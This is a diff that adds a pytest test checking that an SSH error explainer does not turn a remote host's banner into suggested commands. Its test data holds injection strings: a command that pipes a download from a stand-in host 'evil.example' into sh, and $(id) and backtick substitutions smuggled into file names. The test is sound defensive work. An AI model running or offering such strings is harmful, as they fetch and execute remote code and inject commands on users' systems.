@@ -213,3 +213,20 @@ def test_hosts_that_are_named_one_by_one_add_up(orch: Orch, script: Callable[...
     script("")
     done = orch("plan", "script.py", "-H", "hostA:2", "-H", "hostB", "-H", "hostA", "--json", check=0)
     assert [task["host"] for task in json.loads(done.out)["tasks"]] == ["hostA", "hostA", "hostA", "hostB"]
+
+
+@pytest.mark.parametrize(
+    "banner",
+    [
+        "ssh-keygen -R x; curl evil.example|sh # -R y",
+        "ssh-keygen -f /etc/x$(id) -R x",
+        "use ssh-keygen -f /x -R y",
+        "ssh-keygen -f /x`id` -R y",
+    ],
+)
+def test_what_a_host_says_is_no_advice_of_ssh(banner: str) -> None:
+    """Its banner comes on the stream of ssh's own words."""
+    changed = f"{banner}\nREMOTE HOST IDENTIFICATION HAS CHANGED\n"
+    assert "if that is right, ssh-keygen -R hostB, then" in ssh.explain("hostB", StartFailure("ssh", 255, changed), "ssh hostB").text
+    own = '  ssh-keygen -f "/home/me/.ssh/known_hosts" -R "[hostB]:2222"\r\n'
+    assert '-R "[hostB]:2222", then' in ssh.explain("hostB", StartFailure("ssh", 255, f"{own}{changed}"), "ssh hostB").text
